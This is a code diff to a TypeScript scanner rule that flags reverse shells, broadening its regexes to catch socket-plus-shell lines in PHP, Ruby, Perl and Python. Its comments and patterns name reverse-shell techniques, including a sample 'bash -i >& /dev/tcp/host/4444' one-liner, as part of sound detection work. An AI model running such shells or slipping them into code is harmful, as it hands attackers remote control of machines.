@@ -1,5 +1,8 @@
 import { lineRule } from './rule.js';
 
+const SOCKET = String.raw`\bnet\.(?:Socket|connect)\b|\bcreateConnection\b|\bfsockopen\s*\(|\bTCPSocket\b|\bIO::Socket\b|(?<![\w.])socket\s*\(|\bsocket\.socket\s*\(`;
+const A_SHELL = String.raw`["'\s(](?:/bin/)?(?:ba|z|k|da)?sh(?:\s+-i)?(?:["'\s)]|$)|\bcmd\.exe\b|\bpowershell(?:\.exe)?\b`;
+
 const PATTERNS: readonly RegExp[] = [
   // bash -i >& /dev/tcp/host/4444 0>&1
   /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/,
@@ -14,8 +17,9 @@ const PATTERNS: readonly RegExp[] = [
   /\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']/,
   // PowerShell: New-Object System.Net.Sockets.TCPClient(h, p) … GetStream()
   /Net\.Sockets\.TCPClient\b[^\n]*\bGetStream\b/i,
-  // Node: a shell spawned on the same line as a socket
-  /\b(?:spawn|exec)\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["'][^\n]*\b(?:net\.Socket|net\.connect|createConnection)\b|\b(?:net\.Socket|net\.connect|createConnection)\b[^\n]*\b(?:spawn|exec)\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']/,
+  // Any language: a socket opened and a shell started on the same line (Node's net.Socket, PHP's
+  // fsockopen, Ruby's TCPSocket, Perl's IO::Socket or socket(), Python's socket.socket).
+  new RegExp(String.raw`(?:${SOCKET})[^\n]*(?:${A_SHELL})|(?:${A_SHELL})[^\n]*(?:${SOCKET})`),
 ];
 
 /** A shell handed to a network connection: whoever listens gets the runner. */
@@ -23,6 +27,6 @@ export const reverseShell = lineRule({
   id: 'reverse-shell',
   catches: 'a reverse shell (`/dev/tcp/host/port`, `nc -e`, `socat … exec:`, a `mkfifo` pipe into `nc`, `os.dup2` of a socket with `pty.spawn`)',
   code: true,
-  quick: /\/dev\/(?:tcp|udp)|\bn(?:c|cat|etcat)\b|socat|mkfifo|dup2|pty\.spawn|TCPClient|net\.Socket|net\.connect|createConnection/i,
+  quick: /\/dev\/(?:tcp|udp)|\bn(?:c|cat|etcat)\b|socat|mkfifo|dup2|pty\.spawn|TCPClient|net\.Socket|net\.connect|createConnection|fsockopen|TCPSocket|IO::Socket|socket/i,
   match: (text) => (PATTERNS.some((pattern) => pattern.test(text)) ? 'a shell handed to a network connection (a reverse shell): whoever listens on the other end gets a shell on the machine that runs it' : null),
 });
